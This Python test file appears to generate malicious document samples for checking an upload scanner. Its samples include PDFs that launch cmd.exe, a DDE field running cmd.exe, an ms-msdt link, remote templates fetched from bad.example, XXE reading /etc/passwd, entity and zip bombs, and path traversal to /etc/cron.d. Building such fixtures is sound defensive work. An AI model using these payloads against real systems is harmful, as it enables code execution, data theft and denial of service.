"""Sixty files that somebody might send to hurt whoever opens them, or the machine that looks at them."""

import io
import zipfile
import zlib
from collections.abc import Callable

import pikepdf

from tests.documents.making import BODY, RELS, TYPES, action, chunk, pdf, picture, png_of, relation, word

MACRO_TYPES = TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")
BOTH_TYPES = TYPES.replace(
    "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
FIELD = '<w:p><w:r><w:instrText xml:space="preserve"> {} </w:instrText></w:r></w:p>'
DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
Made = Callable[[], bytes]


def _field(code: str) -> Made:
    return lambda: word({DOCUMENT: BODY.format(text="x").replace("</w:body>", f"{FIELD.format(code)}</w:body>")})


def _with(name: str, content: str | bytes = b"x") -> Made:
    return lambda: word({name: content})


def _nested(depth: int) -> bytes:
    return b"%PDF-1.4\n1 0 obj\n" + b"[" * depth + b"]" * depth + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _attached() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["letter.exe"] = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _annotated() -> bytes:
    document = pikepdf.new()
    page = document.add_blank_page()
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9])
    note["/A"] = action("Launch", **{"/F": pikepdf.String("cmd.exe")})
    page.Annots = pikepdf.Array([note])
    out = io.BytesIO()
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _twice() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("WORD/document.xml", BODY.format(text="the other one"))
    return out.getvalue()


def _locked_zip() -> bytes:
    content = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 1)
    return bytes(content)


def _said_small() -> bytes:
    """What says that it unpacks to ten bytes, and holds a million."""
    content = word({"word/media/x.png": b"\0" * 1_000_000})
    at = content.rfind(b"word/media/x.png", 0, content.rfind(b"PK\x05\x06"))
    return content[: at - 22] + (10).to_bytes(4, "little") + content[at - 18 :]


def _rest() -> bytes:
    return picture("PNG")[33:]


def _hex_names() -> bytes:
    plain = pdf({"/OpenAction": action("JavaScript", **JS)}, compress_streams=False)
    return plain.replace(b"/JavaScript", b"/J#61v#61Script".ljust(11)).replace(b"/JS ", b"/J#53 ")


JS = {"/JS": pikepdf.String("app.alert(1)")}
HOSTILE: dict[str, tuple[str, Made]] = {
    # PDFs that act.
    "runs a script on opening": ("a.pdf", lambda: pdf({"/OpenAction": action("JavaScript", **JS)})),
    "starts a program": ("a.pdf", lambda: pdf({"/OpenAction": action("Launch", **{"/F": pikepdf.String("cmd.exe")})})),
    "starts a program from a link on a page": ("a.pdf", _annotated),
    "sends a form": ("a.pdf", lambda: pdf({"/OpenAction": action("SubmitForm")})),
    "imports data": ("a.pdf", lambda: pdf({"/OpenAction": action("ImportData")})),
    "opens another file": ("a.pdf", lambda: pdf({"/OpenAction": action("GoToR")})),
    "opens a file it carries": ("a.pdf", lambda: pdf({"/OpenAction": action("GoToE")})),
    "plays a rendition": ("a.pdf", lambda: pdf({"/OpenAction": action("Rendition")})),
    "acts on closing": ("a.pdf", lambda: pdf({"/AA": pikepdf.Dictionary({"/WC": action("JavaScript", **JS)})})),
    "keeps a script by name": (
        "a.pdf",
        lambda: pdf({"/Names": pikepdf.Dictionary({"/X": action("X", **JS)})}),
    ),
    "a form of the XML kind": ("a.pdf", lambda: pdf({"/AcroForm": pikepdf.Dictionary({"/XFA": pikepdf.String("x")})})),
    "carries a program": ("a.pdf", _attached),
    "carries rich media": ("a.pdf", lambda: pdf({"/X": pikepdf.Dictionary({"/RichMediaContent": 1})})),
    "carries an associated file": ("a.pdf", lambda: pdf({"/AF": pikepdf.Array([])})),
    "hides its names behind codes": ("a.pdf", _hex_names),
    "locked with a password": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="u", owner="o"))),
    "locked without a password": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="", owner="o"))),
    # PDFs that are something else too, or nothing.
    "a PDF and a zip": ("a.pdf", lambda: pdf() + word()),
    "a PDF and a page": ("a.pdf", lambda: pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1)),
    "a program behind a PDF": ("a.pdf", lambda: pdf() + b"MZ\x90\x00" + b"\0" * 100 + b"code"),
    "a page before the PDF": ("a.pdf", lambda: b"<html><script>alert(1)</script>" + pdf()),
    "half a PDF": ("a.pdf", lambda: pdf()[:200]),
    "a PDF's first line": ("a.pdf", lambda: b"%PDF-1.7\n"),
    "a PDF without a page": ("a.pdf", lambda: b"%PDF-1.4\ntrailer<</Root<</Type/Catalog>>>>\n%%EOF\n"),
    "a hundred thousand brackets": ("a.pdf", lambda: _nested(100_000)),
    "a picture called PDF": ("a.pdf", lambda: picture("PNG")),
    # Word files that act.
    "macros": ("a.docx", _with("word/vbaProject.bin")),
    "macros by declaration": ("a.docx", _with("[Content_Types].xml", MACRO_TYPES)),
    "macros beside an honest declaration": ("a.docx", _with("[Content_Types].xml", BOTH_TYPES)),
    "an ActiveX control": ("a.docx", _with("word/activeX/activeX1.xml", "<x/>")),
    "an embedded program": ("a.docx", _with("word/media/setup.exe", b"MZ\x90\x00")),
    "a program called a picture": ("a.docx", _with("word/media/image1.png", b"MZ\x90\x00" + b"\0" * 60)),
    "an old Word file called a picture": ("a.docx", _with("word/media/image1.png", b"\xd0\xcf\x11\xe0" + b"\0" * 60)),
    "an embedded worksheet": ("a.docx", _with("word/embeddings/sheet.xlsx", word())),
    "a zip called a picture": ("a.docx", _with("word/media/image1.png", word())),
    "a script": ("a.docx", _with("word/run.vbs")),
    "a template from elsewhere": (
        "a.docx",
        _with("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://bad.example/t.dotm")),
    ),
    "a picture from elsewhere": ("a.docx", _with(RELATIONS, relation("image", "https://bad.example/pixel.png"))),
    "an object from elsewhere": ("a.docx", _with(RELATIONS, relation("oleObject", "https://bad.example/x.html!"))),
    "a link to a program": ("a.docx", _with(RELATIONS, relation("hyperlink", "ms-msdt:/id PCWDiagnostic"))),
    "a link to a shared folder": ("a.docx", _with(RELATIONS, relation("hyperlink", "file://bad.example/share"))),
    "a relation that climbs": ("a.docx", _with(RELATIONS, relation("image", "../../../etc/passwd", "Internal"))),
    "a field that starts a program": ("a.docx", _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "a field that fetches": ("a.docx", _field('INCLUDETEXT "https://bad.example/x"')),
    "a field that fetches a picture": ("a.docx", _field("INCLUDEPICTURE https://bad.example/x")),
    "entities that grow": ("a.docx", _with(DOCUMENT, LAUGHS)),
    "an entity from a file": ("a.docx", _with(DOCUMENT, OUTSIDE)),
    "XML in another alphabet": ("a.docx", _with(DOCUMENT, OUTSIDE.encode("utf-16"))),
    # Word files that burst, or are none.
    "a zip that bursts": ("a.docx", _with("word/media/x.png", b"\0" * 90_000_000)),
    "a zip that says it is small": ("a.docx", _said_small),
    "three thousand parts": ("a.docx", lambda: word({f"word/p{n}.xml": "<x/>" for n in range(3000)})),
    "a part that climbs out": ("a.docx", _with("../../outside.xml", "<x/>")),
    "a part at the root": ("a.docx", _with("/etc/cron.d/x", "<x/>")),
    "one part under two names": ("a.docx", _twice),
    "a locked zip": ("a.docx", _locked_zip),
    "a zip that is no Word file": ("a.docx", lambda: word(without="[Content_Types].xml")),
    "a page before the zip": ("a.docx", lambda: b"<script>alert(1)</script>" + word()),
    "something after the zip": ("a.docx", lambda: word() + b"<script>alert(1)</script>"),
    "relations that are no XML": ("a.docx", _with("_rels/.rels", RELS[:80])),
    # Pictures that burst, or are none.
    "a picture of 400 million points": ("a.png", lambda: png_of(20_000, 20_000)),
    "a picture that ends too soon": ("a.png", lambda: picture("PNG")[:60]),
    "a picture with a comment that bursts": (
        "a.png",
        lambda: picture("PNG")[:33] + chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 80_000_000)) + _rest(),
    ),
    "a program called a picture alone": ("a.jpg", lambda: b"MZ\x90\x00" + b"\0" * 500),
    "a drawing that runs": ("a.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "a PNG called JPEG": ("a.jpg", lambda: picture("PNG")),
    "a picture's first line": ("a.jpg", lambda: b"\xff\xd8\xff\xe0"),
    # Texts that are none.
    "a program called text": ("a.txt", lambda: b"MZ\x90\x00\x03\x00"),
    "text with a NUL": ("a.txt", lambda: b"We met\x00 on Tuesday"),
    "text that moves the cursor": ("a.txt", lambda: b"We met \x1b[2J on Tuesday"),
    "a PDF called text": ("a.txt", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
    # Names.
    "a page": ("a.html", lambda: b"<script>alert(1)</script>"),
    "a drawing": ("a.svg", lambda: b"<svg/>"),
    "a program": ("a.exe", lambda: b"MZ"),
    "a Word file with macros": ("a.docm", lambda: word()),
    "two extensions": ("a.pdf.exe", lambda: pdf()),
    "no extension": ("letter", lambda: pdf()),
    "nothing at all": ("a.pdf", lambda: b""),
    "too large": ("a.txt", lambda: b"a" * 20_000_001),
}
